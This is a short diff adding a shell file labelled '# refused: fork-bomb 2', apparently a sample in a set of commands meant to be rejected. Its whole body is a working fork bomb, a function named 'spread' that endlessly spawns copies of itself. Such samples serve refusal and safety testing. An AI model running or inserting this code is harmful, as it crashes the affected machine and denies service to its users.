@@ -1,0 +1,6 @@
+# refused: fork-bomb 2
+spread() {
+  spread &
+  spread
+}
+spread
